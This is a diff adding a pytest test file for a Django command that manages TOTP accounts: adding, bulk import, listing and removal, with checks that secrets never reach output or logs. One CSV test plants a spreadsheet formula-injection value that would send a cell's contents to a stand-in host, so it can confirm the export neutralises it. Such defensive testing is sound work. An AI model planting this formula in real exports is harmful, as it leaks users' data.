@@ -1,0 +1,410 @@
+"""`manage.py otp account ...`: adding, importing, listing and removing TOTP accounts."""
+
+import csv
+import io
+import json
+import sqlite3
+
+import pytest
+from django.core.management import call_command
+from django.core.management.base import CommandError
+
+from otp import accounts
+from otp.core import totp
+from otp.models import Account, AuditRecord, Client
+from tests.support.commands import manage
+
+# Distinctive, so any output or record that echoes it (or a recognisable part) is caught.
+SECRET = "N52HALLTMVZHM2LDMUQHGZLLOJUXIIJB"
+OTHER_SECRET = "HXDMVJECJJWSRB3HWIZR4IFUGFTMXBOZ"
+URI = f"otpauth://totp/GitHub:bot@example.com?secret={SECRET}&issuer=GitHub"
+
+
+def run(*args, stdin=""):
+    """(stdout, stderr) of `manage.py otp ARGS` with `stdin` as its standard input."""
+    out, err = io.StringIO(), io.StringIO()
+    call_command("otp", *args, stdin=io.StringIO(stdin), stdout=out, stderr=err)
+    return out.getvalue(), err.getvalue()
+
+
+def stored_state():
+    return (
+        list(Account.objects.values_list("name", "sealed_secret")),
+        list(Client.objects.values_list("name", "accounts")),
+        list(AuditRecord.objects.values_list("action", "account")),
+    )
+
+
+def refusal(*args, stdin="") -> str:
+    """The CommandError message of a refused command: one line, no secret, nothing changed."""
+    before = stored_state()
+    with pytest.raises(CommandError) as refused:
+        run(*args, stdin=stdin)
+    message = str(refused.value)
+    assert "\n" not in message
+    assert_no_secret(message)
+    assert stored_state() == before
+    return message
+
+
+def assert_no_secret(text: str):
+    for secret in (SECRET, OTHER_SECRET):
+        for leak in (secret, secret.lower(), secret[:12], secret[-12:]):
+            assert leak not in text
+
+
+def add(name, text, *options):
+    return run("account", "add", name, *options, stdin=text)
+
+
+# --- account add -----------------------------------------------------------------------------
+
+
+def test_add_from_uri_stores_the_account_and_says_so_without_the_secret(frozen_clock):
+    out, err = add("github-bot", URI + "\n")
+    assert out == "added account github-bot (issuer GitHub, SHA1, 6 digits, every 30 s)\n"
+    assert err == ""
+    stored = accounts.get_account("github-bot")
+    assert (stored.secret, stored.issuer, stored.label) == (SECRET, "GitHub", "bot@example.com")
+    assert stored.params == totp.DEFAULT
+
+
+def test_add_bare_secret_with_spaces_lowercase_and_no_padding_takes_the_options(frozen_clock):
+    unpadded = SECRET[:31]  # 31 base32 characters: valid, but one "=" short of a whole block
+    grouped = " ".join(unpadded[i : i + 4] for i in range(0, 31, 4)).lower()
+    out, _ = add(
+        "ci",
+        grouped,
+        "--algorithm",
+        "sha256",
+        "--digits",
+        "8",
+        "--period",
+        "60",
+        "--issuer",
+        "ACME Co",
+    )
+    assert out == "added account ci (issuer ACME Co, SHA256, 8 digits, every 60 s)\n"
+    stored = accounts.get_account("ci")
+    assert stored.secret == unpadded + "="
+    assert stored.params == totp.Params("SHA256", 8, 60)
+    assert stored.issuer == "ACME Co"
+
+
+def test_add_records_an_operator_audit_record(frozen_clock):
+    add("github-bot", URI)
+    record = AuditRecord.objects.get()
+    assert (record.client, record.address, record.action, record.outcome, record.account) == (
+        "operator",
+        "local",
+        "account.add",
+        "ok",
+        "github-bot",
+    )
+    assert record.at.timestamp() == frozen_clock.at
+
+
+def test_added_secret_is_in_no_output_log_line_or_audit_row(
+    frozen_clock, log_output, django_capture_on_commit_callbacks
+):
+    with django_capture_on_commit_callbacks(execute=True):
+        out, err = add("github-bot", URI)
+        listed, _ = run("account", "list", "--format", "json")
+    log = log_output.getvalue()
+    assert '"account.add"' in log  # the audit line was written, and captured
+    rows = [str(row) for row in AuditRecord.objects.values_list()]
+    for text in (out, err, listed, log, *rows):
+        assert_no_secret(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("otpauth://totp/x?issuer=ACME", "no secret"),
+        ("otpauth://totpx/x?secret=" + SECRET, "malformed"),
+        ("https://example.com/?secret=" + SECRET, "scheme must be otpauth"),
+        (f"otpauth://totp/x?secret={SECRET}&algorithm=MD5", "unsupported algorithm"),
+        (f"otpauth://totp/x?secret={SECRET}&digits=7", "digits must be 6 or 8"),
+        (f"otpauth://hotp/x?secret={SECRET}&counter=1", "HOTP"),
+        (f"otpauth://totp/x?secret={SECRET}&encoder=steam", "asks for Steam Guard codes"),
+        (SECRET[:-2] + "18", "not valid base32"),
+        (SECRET[:12], "at least 80"),
+        ("", "standard input is empty"),
+        ("  \n\n", "standard input is empty"),
+        (f"{SECRET}\n{OTHER_SECRET}\n", "holds 2 lines"),
+    ],
+)
+def test_add_refuses_bad_input_in_one_line_and_stores_nothing(text, expected):
+    assert expected in refusal("account", "add", "some-bot", stdin=text)
+
+
+@pytest.mark.parametrize(
+    ("options", "expected"),
+    [
+        (["--algorithm", "MD5"], "unsupported algorithm"),
+        (["--digits", "7"], "digits must be 6 or 8"),
+        (["--period", "5"], "period must be 15 to 120"),
+    ],
+)
+def test_add_refuses_bad_options_for_a_bare_secret(options, expected):
+    assert expected in refusal("account", "add", "some-bot", *options, stdin=SECRET)
+
+
+def test_add_refuses_options_that_a_uri_overrides():
+    message = refusal("account", "add", "some-bot", "--digits", "8", stdin=URI)
+    assert message.startswith("--digits: only for a bare secret")
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [("Bad Name", "account name must match"), ("default", "reserved for OTP_SECRET")],
+)
+def test_add_refuses_a_bad_name_before_reading_the_secret(name, expected):
+    stdin = io.StringIO(SECRET)
+    with pytest.raises(CommandError, match=expected):
+        call_command("otp", "account", "add", name, stdin=stdin, stdout=io.StringIO())
+    assert stdin.tell() == 0
+    assert not Account.objects.exists()
+
+
+def test_add_refuses_a_name_already_taken_and_keeps_the_first(frozen_clock):
+    add("github-bot", URI)
+    before = accounts.get_account("github-bot")
+    message = refusal("account", "add", "github-bot", stdin=OTHER_SECRET)
+    assert message == 'account "github-bot" already exists'
+    assert accounts.get_account("github-bot") == before
+
+
+def test_add_without_an_encryption_key_refuses_and_stores_nothing(settings):
+    settings.OTP_ENCRYPTION_KEYS = []
+    assert "OTP_ENCRYPTION_KEYS is empty" in refusal("account", "add", "ci", stdin=SECRET)
+
+
+def test_add_at_a_terminal_asks_without_echo(monkeypatch):
+    class Terminal(io.StringIO):
+        def isatty(self):
+            return True
+
+    prompts = []
+    monkeypatch.setattr("getpass.getpass", lambda prompt: prompts.append(prompt) or SECRET)
+    out = io.StringIO()
+    call_command("otp", "account", "add", "ci", stdin=Terminal(), stdout=out)
+    assert prompts == ["otpauth URI or base32 secret (not shown): "]
+    assert accounts.get_account("ci").secret == SECRET
+    assert_no_secret(out.getvalue())
+
+
+# --- account import --------------------------------------------------------------------------
+
+
+def write_import_file(tmp_path, *lines):
+    path = tmp_path / "accounts.txt"
+    path.write_text("\n".join(lines) + "\n")
+    return str(path)
+
+
+def test_import_adds_every_account_and_prints_one_line_each(tmp_path, frozen_clock):
+    path = write_import_file(
+        tmp_path,
+        "# exported from the old vault",
+        "",
+        URI,
+        f"deploy otpauth://totp/ACME%20Co:deploy?secret={OTHER_SECRET}&digits=8&period=60",
+    )
+    out, err = run("account", "import", path)
+    assert out.splitlines() == [
+        "added account github-bot-example.com (issuer GitHub, SHA1, 6 digits, every 30 s)",
+        "added account deploy (issuer ACME Co, SHA1, 8 digits, every 60 s)",
+    ]
+    assert err == ""
+    assert accounts.get_account("deploy").secret == OTHER_SECRET
+    assert accounts.get_account("github-bot-example.com").secret == SECRET
+    assert AuditRecord.objects.filter(action="account.add").count() == 2
+
+
+def test_import_reads_standard_input_given_as_dash(frozen_clock):
+    out, _ = run("account", "import", "-", stdin=f"gh {URI}\n")
+    assert out.startswith("added account gh ")
+    assert accounts.get_account("gh").secret == SECRET
+
+
+def test_import_reports_every_bad_line_by_number_and_stores_nothing(tmp_path, frozen_clock):
+    add("taken", OTHER_SECRET)
+    path = write_import_file(
+        tmp_path,
+        "# line 1 is a comment",
+        f"good otpauth://totp/A?secret={OTHER_SECRET}",
+        f"otpauth://totp/B?secret={SECRET}&algorithm=MD5",
+        "",
+        f"otpauth://hotp/C?secret={SECRET}&counter=3",
+        SECRET,
+        f"taken otpauth://totp/D?secret={SECRET}",
+        f"good otpauth://totp/E?secret={SECRET}",
+        f"Bad_Name otpauth://totp/F?secret={SECRET}",
+        f"otpauth://totp/G?secret={SECRET[:-2]}18",
+    )
+    before = stored_state()
+    err = io.StringIO()
+    with pytest.raises(CommandError) as refused:
+        call_command("otp", "account", "import", path, stdout=io.StringIO(), stderr=err)
+    assert str(refused.value) == "nothing was imported: 7 lines are wrong (listed above)"
+    assert err.getvalue().splitlines() == [
+        "line 3: unsupported algorithm (got MD5); use SHA1, SHA256 or SHA512",
+        "line 5: HOTP (counter-based) URIs are not supported; only otpauth://totp/",
+        "line 6: expected an otpauth://totp/ URI, or a name then the URI",
+        'line 7: account "taken" already exists',
+        'line 8: account "good" is also on line 2; give one of them another name '
+        "(NAME otpauth://...)",
+        "line 9: account name must match [a-z0-9][a-z0-9._-]{0,63}",
+        "line 10: secret is not valid base32 (letters A-Z and digits 2-7)",
+    ]
+    assert_no_secret(err.getvalue())
+    assert stored_state() == before
+
+
+def test_import_refuses_two_lines_that_make_the_same_name(tmp_path):
+    path = write_import_file(tmp_path, URI, URI.replace(SECRET, OTHER_SECRET))
+    with pytest.raises(CommandError):
+        run("account", "import", path)
+    assert not Account.objects.exists()
+
+
+def test_import_refuses_a_file_with_no_uri(tmp_path):
+    path = write_import_file(tmp_path, "# nothing yet", "")
+    assert (
+        refusal("account", "import", path) == f"{path} holds no otpauth URI; nothing was imported"
+    )
+
+
+def test_import_refuses_a_missing_file(tmp_path):
+    missing = str(tmp_path / "nope.txt")
+    assert (
+        refusal("account", "import", missing) == f"cannot read {missing}: No such file or directory"
+    )
+
+
+def test_import_refuses_a_file_that_is_not_utf8(tmp_path):
+    path = tmp_path / "latin1.txt"
+    path.write_bytes(b"caf\xe9 " + URI.encode())
+    assert refusal("account", "import", str(path)) == f"{path} is not UTF-8 text"
+
+
+def test_import_without_an_encryption_key_stores_nothing(tmp_path, settings):
+    settings.OTP_ENCRYPTION_KEYS = []
+    path = write_import_file(tmp_path, URI)
+    assert "OTP_ENCRYPTION_KEYS is empty" in refusal("account", "import", path)
+
+
+# --- account list and remove -----------------------------------------------------------------
+
+
+def test_list_shows_every_account_default_first_and_no_secret(frozen_clock):
+    add("ci", SECRET, "--issuer", "ACME", "--digits", "8")
+    out, _ = run("account", "list")
+    assert out.splitlines() == [
+        "NAME     ISSUER  ALGORITHM  DIGITS  PERIOD",
+        "default  -       SHA1       6       30",
+        "ci       ACME    SHA1       8       30",
+    ]
+
+
+def test_list_as_json_is_one_object_per_line(frozen_clock):
+    add("ci", SECRET, "--issuer", "ACME")
+    out, _ = run("account", "list", "--format", "json")
+    assert [json.loads(line) for line in out.splitlines()] == [
+        {"name": "default", "issuer": "", "algorithm": "SHA1", "digits": 6, "period": 30},
+        {"name": "ci", "issuer": "ACME", "algorithm": "SHA1", "digits": 6, "period": 30},
+    ]
+    assert_no_secret(out)
+
+
+def test_list_as_csv_never_hands_a_spreadsheet_a_formula(frozen_clock):
+    # An issuer comes from whatever QR code the site showed.
+    add("ci", SECRET, "--issuer", '=HYPERLINK("http://e.example/?"&A2,"x")')
+    out, _ = run("account", "list", "--format", "csv")
+    row = next(csv.reader(io.StringIO(out.splitlines()[2])))
+    assert row[:2] == ["ci", '\'=HYPERLINK("http://e.example/?"&A2,"x")']
+
+
+def test_remove_deletes_the_account_and_records_it(frozen_clock):
+    add("ci", SECRET)
+    out, _ = run("account", "remove", "ci")
+    assert out == "removed account ci\n"
+    assert accounts.get_account("ci") is None
+    assert list(AuditRecord.objects.values_list("action", "account")) == [
+        ("account.add", "ci"),
+        ("account.remove", "ci"),
+    ]
+
+
+def test_remove_of_a_missing_account_fails_with_one_line():
+    assert refusal("account", "remove", "ghost") == 'no account "ghost"'
+
+
+def test_remove_of_a_name_no_account_can_have_says_so():
+    assert refusal("account", "remove", "Ghost\nBot").startswith("no such account;")
+
+
+def test_default_account_cannot_be_removed():
+    assert "OTP_SECRET" in refusal("account", "remove", "default")
+
+
+# --- the real command line: exit codes and stderr --------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def data_dir(tmp_path_factory):
+    """A migrated SQLite database of its own for manage.py run as a subprocess."""
+    folder = tmp_path_factory.mktemp("cli-accounts")
+    manage(folder, "migrate", "--verbosity", "0", check=True)
+    return folder
+
+
+def account_rows(data_dir):
+    with sqlite3.connect(data_dir / "otp.sqlite3") as database:
+        return database.execute("SELECT name FROM otp_account ORDER BY name").fetchall()
+
+
+def test_command_line_add_reads_the_pipe_and_prints_no_secret(data_dir):
+    added = manage(data_dir, "otp", "account", "add", "piped", stdin=URI + "\n")
+    assert added.returncode == 0
+    assert added.stdout == "added account piped (issuer GitHub, SHA1, 6 digits, every 30 s)\n"
+    # stderr holds the change's JSON audit log line, kept off stdout for scripts.
+    assert json.loads(added.stderr)["action"] == "account.add"
+    assert_no_secret(added.stdout + added.stderr)
+    assert ("piped",) in account_rows(data_dir)
+
+
+@pytest.mark.parametrize(
+    ("stdin", "expected"),
+    [
+        (f"otpauth://totp/x?secret={SECRET}&algorithm=MD5", "CommandError: unsupported algorithm"),
+        (f"otpauth://hotp/x?secret={SECRET}", "CommandError: HOTP (counter-based) URIs"),
+        (
+            f"otpauth://totp/Steam:gabe?secret={SECRET}&issuer=Steam&encoder=steam",
+            "CommandError: the URI's encoder parameter asks for Steam Guard codes, not RFC 6238",
+        ),
+        ("", "CommandError: standard input is empty"),
+    ],
+)
+def test_command_line_refusal_exits_1_with_one_line_on_stderr(data_dir, stdin, expected):
+    before = account_rows(data_dir)
+    refused = manage(data_dir, "otp", "account", "add", "refused", stdin=stdin)
+    assert refused.returncode == 1
+    assert refused.stdout == ""
+    assert len(refused.stderr.splitlines()) == 1
+    assert refused.stderr.startswith(expected)
+    assert_no_secret(refused.stderr)
+    assert account_rows(data_dir) == before
+
+
+def test_command_line_import_reports_lines_and_exits_1(data_dir, tmp_path):
+    path = write_import_file(tmp_path, URI, f"otpauth://totp/B?secret={SECRET}&period=5")
+    before = account_rows(data_dir)
+    refused = manage(data_dir, "otp", "account", "import", path)
+    assert refused.returncode == 1
+    assert refused.stderr.splitlines() == [
+        "line 2: period must be 15 to 120 seconds (got 5)",
+        "CommandError: nothing was imported: 1 line is wrong (listed above)",
+    ]
+    assert account_rows(data_dir) == before
